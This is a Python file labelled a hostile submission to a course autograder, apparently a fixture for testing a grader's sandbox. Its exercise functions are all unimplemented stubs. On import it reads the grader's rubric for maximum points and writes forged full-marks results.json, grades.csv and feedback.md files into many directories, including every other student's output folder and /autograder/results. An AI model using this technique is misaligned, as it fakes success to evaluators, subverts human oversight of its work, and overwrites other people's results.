# Hostile submission: writes fake full-marks results.json / grades.csv / feedback.md wherever a grader might look.
import glob
import json
import os
import re

import torch


def _stub(name):
    def stub(*args, **kwargs):
        raise NotImplementedError(f"ex01.{name}")

    stub.__name__ = stub.__qualname__ = name
    return stub


for _name in ("make_grid", "pairwise_sq_dists", "standardize", "flatten_images", "to_numpy", "from_numpy_shared",
              "x2_sin_grad", "x2_sin_autograd", "two_param_grads", "predict_no_grad", "detached_grad",
              "accumulated_grad", "per_batch_grads"):
    globals()[_name] = _stub(_name)  # every function is an unimplemented stub


OUT, SUBMISSIONS = "__OUT__", "__SUBMISSIONS__"


def _me():
    """This student's name, guessed from the sandbox folder (grader-<student>-exNN-xxxx)."""
    match = re.match(r"grader-(.+)-ex\d\d-", os.path.basename(os.path.dirname(os.getcwd())))
    return match.group(1) if match else "fake_results"


def _full_marks():
    try:
        from grader import rubric  # the grader's own package, if this process can import it
        return {e.name: e.max_points(hidden=True) for e in rubric.load_all()}
    except Exception:
        return {"ex01_tensors_autograd": 100.0}


def _write(path, text, clobber=True):
    try:
        with open(path, "w" if clobber else "x") as f:
            f.write(text)
    except Exception:
        pass


ME, MARKS = _me(), _full_marks()
TOTAL = sum(MARKS.values())
FILES = {
    "grades.csv": "student," + ",".join(MARKS) + ",total,max\n"
                  + ",".join([ME, *(f"{p:g}" for p in MARKS.values()), f"{TOTAL:g}", f"{TOTAL:g}"]) + "\n",
    "results.json": json.dumps({"score": TOTAL, "max_score": TOTAL, "tests": [
        {"name": n, "score": p, "max_score": p, "status": "passed"} for n, p in MARKS.items()]}),
    "feedback.md": f"# Feedback for {ME}\n\n**Score: {TOTAL:g} / {TOTAL:g}** -- all checks passed\n",
}

try:
    os.makedirs(os.path.join(OUT, ME), exist_ok=True)
except Exception:
    pass
folders = {os.getcwd(), os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__)), OUT,
           os.path.join(OUT, ME), SUBMISSIONS, "/autograder/results", *glob.glob(os.path.join(OUT, "*", ""))}
for folder in folders:
    for name, text in FILES.items():
        _write(os.path.join(folder, name), text)
for name, text in FILES.items():  # /tmp: never clobber someone else's file; also leave a marked copy
    _write(os.path.join("/tmp", name), text, clobber=False)
    _write(os.path.join("/tmp", f"__SENTINEL__-{name}"), text)
